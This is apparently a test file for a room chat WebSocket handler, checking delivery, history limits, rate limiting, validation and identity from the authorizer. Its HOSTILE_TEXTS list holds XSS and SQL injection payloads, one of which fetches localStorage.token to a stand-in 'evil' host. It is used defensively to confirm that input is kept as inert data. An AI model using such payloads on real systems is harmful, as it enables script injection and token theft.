import { LIMITS } from '../../../functions/shared/protocol/room';
import { createRoomSocketHandler } from '../../../functions/room/socket';
import { createHarness, type Harness, type Sock } from './harness';

const HOSTILE_TEXTS = [
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror="fetch(`//evil/`+localStorage.token)">',
  "Robert'); DROP TABLE room_chat_messages;--",
  "' OR '1'='1",
  '$1 :name ::text \\ % _ ; --',
  'emoji 👩🏽‍💻 and RTL \u202e text',
];

describe('chat', () => {
  let h: Harness;
  let roomId: string;
  let host: Sock;
  let bob: Sock;
  beforeEach(async () => {
    h = createHarness({ chat: { max: 5, windowSeconds: 60 } });
    roomId = await h.createRoom();
    host = await h.joined(roomId, 'sub-host', { name: 'Hosta' });
    bob = await h.joined(roomId, 'sub-bob', { name: 'Bob' });
    h.clear();
  });
  afterEach(() => h.restore());

  it('delivers to everyone (the sender’s copy alone carries its ref), keeps it for late joiners and archives it', async () => {
    await h.send(bob, { type: 'chat.send', text: 'hello all', ref: 'c-1' });
    const expected = {
      type: 'chat.message',
      message: {
        id: expect.any(String),
        peerId: bob.peerId,
        name: 'Bob',
        text: 'hello all',
        sentAt: expect.stringMatching(/^\d{4}-\d\d-\d\dT/),
        ref: 'c-1',
      },
    };
    expect(h.of(bob, 'chat.message')).toEqual([expected]);
    const { ref: _ref, ...withoutRef } = expected.message;
    expect(h.of(host, 'chat.message')).toEqual([{ type: 'chat.message', message: withoutRef }]);
    expect(h.store.chat).toEqual([expect.objectContaining({ roomId, senderSub: 'sub-bob', text: 'hello all' })]);
    const late = await h.joined(roomId, 'sub-late');
    expect(h.last(late, 'welcome')!.chat.map((m) => m.text)).toEqual(['hello all']);
  });

  it.each(HOSTILE_TEXTS)('stores and relays %j verbatim, as data', async (text) => {
    await h.send(bob, { type: 'chat.send', text });
    expect(h.last(host, 'chat.message')!.message.text).toBe(text);
    expect(h.store.chat.at(-1)!.text).toBe(text);
    expect((await h.deps.live.recentChat(roomId)).at(-1)!.text).toBe(text);
  });

  it('a late joiner sees only the latest 50; the archive keeps everything', async () => {
    const busy = createHarness({ chat: { max: 1000, windowSeconds: 60 } });
    try {
      const r = await busy.createRoom();
      const a = await busy.joined(r, 'sub-host');
      for (let i = 1; i <= 60; i += 1) await busy.send(a, { type: 'chat.send', text: `m${i}` });
      const late = await busy.joined(r, 'sub-late');
      const texts = busy.last(late, 'welcome')!.chat.map((m) => m.text);
      expect(texts).toHaveLength(LIMITS.chatHistory);
      expect(texts[0]).toBe('m11');
      expect(texts.at(-1)).toBe('m60');
      expect(busy.store.chat).toHaveLength(60);
    } finally {
      await busy.restore();
    }
  });

  it('a chat flood is cut off per sender: the excess gets rate_limited, reaches nobody and is not archived', async () => {
    for (let i = 1; i <= 8; i += 1) await h.send(bob, { type: 'chat.send', text: `spam ${i}`, ref: `s${i}` });
    expect(h.of(host, 'chat.message').map((m) => m.message.text)).toEqual([
      'spam 1',
      'spam 2',
      'spam 3',
      'spam 4',
      'spam 5',
    ]);
    expect(h.of(bob, 'error').map((e) => [e.code, e.ref])).toEqual([
      ['rate_limited', 's6'],
      ['rate_limited', 's7'],
      ['rate_limited', 's8'],
    ]);
    expect(h.store.chat).toHaveLength(5);
    // Another sender is not punished for bob's flood.
    await h.send(host, { type: 'chat.send', text: 'calm' });
    expect(h.last(bob, 'chat.message')!.message.text).toBe('calm');
  });

  it('refuses empty, whitespace-only, oversize and control-character chat', async () => {
    await h.send(bob, { type: 'chat.send', text: '' });
    await h.send(bob, { type: 'chat.send', text: '   \n ' });
    await h.send(bob, { type: 'chat.send', text: 'x'.repeat(LIMITS.chatText + 1) });
    await h.send(bob, { type: 'chat.send', text: 'nul\u0000byte' });
    await h.send(bob, { type: 'chat.send', text: 42 });
    expect(h.of(bob, 'error').map((e) => e.code)).toEqual(Array(5).fill('invalid_message'));
    expect(h.of(bob, 'error')[2]!.message).toBe('text: chat message must be at most 2000 characters');
    await h.send(bob, { type: 'chat.send', text: 'x'.repeat(LIMITS.chatText) });
    expect(h.of(host, 'chat.message')).toHaveLength(1);
    expect(h.store.chat).toHaveLength(1);
  });
});

describe('malformed, oversize and flooding input', () => {
  let h: Harness;
  let roomId: string;
  let host: Sock;
  let bob: Sock;
  beforeEach(async () => {
    h = createHarness({ roomMessage: { max: 10, windowSeconds: 60 } });
    roomId = await h.createRoom();
    host = await h.joined(roomId, 'sub-host');
    bob = await h.joined(roomId, 'sub-bob');
    h.clear();
  });
  afterEach(() => h.restore());

  it.each([
    ['not JSON', '{"type":"chat.send",', 'invalid_message', 'message is not valid JSON'],
    ['empty', '', 'invalid_message', 'empty message'],
    ['a JSON string', '"join"', 'invalid_message', 'Invalid input: expected object, received string'],
    ['an array', '[{"type":"join"}]', 'invalid_message', 'Invalid input: expected object, received array'],
    ['an unknown type', '{"type":"host.promoteMe"}', 'invalid_message', expect.stringContaining('type: ')],
    ['an upper-case PeerJS type', '{"type":"OFFER"}', 'invalid_message', expect.stringContaining('type: ')],
    ['prototype pollution', '{"type":"leave","__proto__":{"role":"host"}}', 'invalid_message', expect.any(String)],
    [
      'oversize',
      JSON.stringify({ type: 'chat.send', text: 'é'.repeat(6000) }),
      'message_too_large',
      expect.any(String),
    ],
  ])('%s gets an error back to the sender only', async (_name, raw, code, message) => {
    await h.sendRaw(bob, raw);
    expect(h.inbox(bob)).toEqual([{ type: 'error', code, message }]);
    expect(h.inbox(host)).toEqual([]);
    expect((await h.roster(roomId)).map((p) => p.peerId)).toEqual([host.peerId, bob.peerId]);
  });

  it('a message flood (valid or not) is answered once with rate_limited and the socket is closed', async () => {
    for (let i = 0; i < 14; i += 1)
      await h.sendRaw(bob, i % 2 ? 'garbage' : JSON.stringify({ type: 'state', mic: i < 5 }));
    const codes = h.inbox(bob).map((m) => (m.type === 'error' ? m.code : m.type));
    // Told why once, not frame by frame, then cut off.
    expect(codes.filter((c) => c === 'rate_limited')).toEqual(['rate_limited']);
    expect(codes.at(-1)).toBe('rate_limited');
    expect(h.last(bob, 'error')!.message).toMatch(/too many messages and is closed/);
    expect(h.closed.has(bob.connectionId)).toBe(true);
    // The 11th+ state changes were not applied: the last accepted one (i=8) said mic false.
    expect((await h.deps.live.getParticipant(roomId, bob.peerId))!.mic).toBe(false);
    await h.send(host, { type: 'state', cam: false });
    expect(h.last(host, 'roster.update')).toBeDefined();
  });

  it('a name with markup or overlong text is stored as data, cut to 40 characters on a code point boundary', async () => {
    const evil = '<img src=x onerror=alert(1)>' + '😀'.repeat(20);
    await h.store.addMember(roomId, { sub: 'sub-evil', name: evil }, 'member');
    const s = h.socket(roomId, 'sub-evil', { name: evil });
    await h.send(s, { type: 'join' });
    const name = h.last(host, 'peer.joined')!.participant.name;
    expect(name.startsWith('<img src=x onerror=alert(1)>')).toBe(true);
    expect(name.length).toBeLessThanOrEqual(LIMITS.displayName);
    expect(name).toBe('<img src=x onerror=alert(1)>' + '😀'.repeat(6));
  });
});

describe('RoomSocket handler (API Gateway event → domain)', () => {
  let h: Harness;
  afterEach(() => h.restore());

  it('reads the identity from the authorizer context, never from the message', async () => {
    h = createHarness();
    const roomId = await h.createRoom();
    const host = await h.joined(roomId, 'sub-host');
    const handler = createRoomSocketHandler(() => h.deps);
    await h.store.addMember(roomId, { sub: 'sub-bob', name: 'Bob' }, 'member');
    await h.deps.membership.admit(roomId, 'sub-bob', 'pbob1'); // as the join route does with the ticket
    const result = await handler({
      requestContext: {
        connectionId: 'conn-bob',
        routeKey: '$default',
        authorizer: { sub: 'sub-bob', name: 'Bob', roomId, peerId: 'pbob1', role: 'member', kind: 'room' },
      },
      body: JSON.stringify({ type: 'join', sub: 'sub-host' }),
    });
    expect(result).toEqual({ statusCode: 200 });
    expect(h.inbox('conn-bob')).toEqual([expect.objectContaining({ type: 'error', code: 'invalid_message' })]);
    await handler({
      requestContext: {
        connectionId: 'conn-bob',
        authorizer: { sub: 'sub-bob', name: 'Bob', roomId, peerId: 'pbob1', role: 'member', kind: 'room' },
      },
      body: Buffer.from(JSON.stringify({ type: 'join' })).toString('base64'),
      isBase64Encoded: true,
    });
    expect(h.last(host, 'peer.joined')!.participant).toMatchObject({ peerId: 'pbob1', name: 'Bob', role: 'member' });
  });

  it('hands PeerJS-socket frames to the signaling relay (never to the room), and fails loudly without identity', async () => {
    h = createHarness();
    const roomId = await h.createRoom();
    const relayed: unknown[] = [];
    const handler = createRoomSocketHandler(
      () => h.deps,
      async (event) => {
        relayed.push(event.body);
        return { statusCode: 200 };
      },
    );
    await handler({
      requestContext: {
        connectionId: 'conn-peer',
        authorizer: { sub: 'sub-host', name: 'H', roomId, peerId: 'phost', role: 'host', kind: 'peer' },
      },
      body: JSON.stringify({ type: 'host.end' }),
    });
    expect(relayed).toEqual([JSON.stringify({ type: 'host.end' })]);
    expect(h.inbox('conn-peer')).toEqual([]);
    expect((await h.store.getRoom(roomId))!.ended).toBe(false);
    await expect(handler({ requestContext: { connectionId: 'c' }, body: '{"type":"join"}' })).rejects.toThrow(
      'no valid authorizer context',
    );
  });
});
